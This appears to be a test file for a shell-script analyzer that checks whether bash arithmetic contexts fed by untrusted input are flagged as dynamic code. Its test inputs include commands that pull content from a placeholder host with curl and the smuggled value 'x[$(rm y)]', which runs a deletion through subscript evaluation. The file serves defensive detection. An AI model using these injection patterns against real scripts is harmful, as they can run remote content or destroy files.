// Arithmetic evaluates the text that it gets, and a subscript in that text runs commands.
import assert from 'node:assert/strict';
import { createTester, type Tester } from '../../../helpers/analysis.ts';

describe('arithmetic', () => {
  let tester: Tester;

  before(async () => {
    tester = await createTester();
  });

  function isOpen(line: string): void {
    it(`${line} is not understood`, () => {
      const { notUnderstood } = tester.read(line);
      assert.ok(notUnderstood.some(({ code }) => code === 'dynamic-code'));
    });
  }

  function isUnderstood(line: string): void {
    it(`${line} is understood`, () => {
      assert.deepEqual(tester.read(line).notUnderstood, []);
    });
  }

  // Each of them runs `rm` when its inner program prints x[$(rm y)].
  isOpen('echo $(( $(curl -s h.example) + 1 ))');
  isOpen('(( $(curl -s h.example) ))');
  isOpen('let "x=$(curl -s h.example)"');
  isOpen('[[ $(curl -s h.example) -eq 1 ]]');
  isOpen('[[ 1 -lt $(curl -s h.example) ]]');
  isOpen('declare -i x=$(curl -s h.example)');
  isOpen('echo ${a[$(curl -s h.example)]}');
  isOpen('a[$(curl -s h.example)]=1');
  isOpen('x=abc; echo ${x:$(curl -s h.example)}');
  isOpen('for ((i = $(curl -s h.example); i < 2; i++)); do ls; done');
  isOpen("a='x[$(rm y)]'; echo $((a)) $(( $a ))");
  isOpen('read a; echo $((a + 1))');
  isOpen("[[ 'x[$(rm y)]' -eq 1 ]]");

  // A list, a format or an argument may make such a program print anything.
  isOpen('n=$(wc -l; curl -s h.example); echo $((n))');
  isOpen("n=$(date '+x[$(rm y)]'); echo $((n))");
  isOpen('n=$(stat -c %n f); echo $((n))');
  isOpen('n=$(expr "$x"); echo $((n))');
  isOpen("n=$(curl 'h.example|wc -l'); echo $((n))");
  isOpen('n=$(wc -l < f || cat f); echo $((n))');
  isOpen('n=$(id -un); echo $((n))');

  isUnderstood('n=$(ls src/*.ts | wc -l 2>/dev/null); echo $((n + 1))');
  isUnderstood('s=$(date +%s); e=$(date -d "$x" "+%s"); echo $((e - s)) $(( $(stat -c %Y f) ))');
  isUnderstood("n=$(grep -c 'a b' f); m=$(cat f | awk 'END {print NR}'); echo $((n * m))");
  isUnderstood('echo $(( $(wc -l < f) + $(date +%s) ))');
  isUnderstood('[[ $(git rev-list --count HEAD) -gt 3 ]]');
  isUnderstood('echo $(( $(echo 1) + 1 ))');
  isUnderstood('for ((i = 0; i < 3; i++)); do echo $((a[i] + ${#a[@]} + $# + $?)); done');
  isUnderstood(
    'until a; do for ((i = 0; i < 1; i++)); do b; done; done; for ((i = 0; i < 1; i++)); do c; done',
  );
  isOpen('read i; for ((i = i; i < 1; i++)); do c; done');
  isUnderstood('a[i+1]=2; echo ${a[i]} ${x:1:2} $((0x1f & ~2))');
  isUnderstood('[[ $# -gt 1 ]]; (( x++ )); let y=x+1');
});
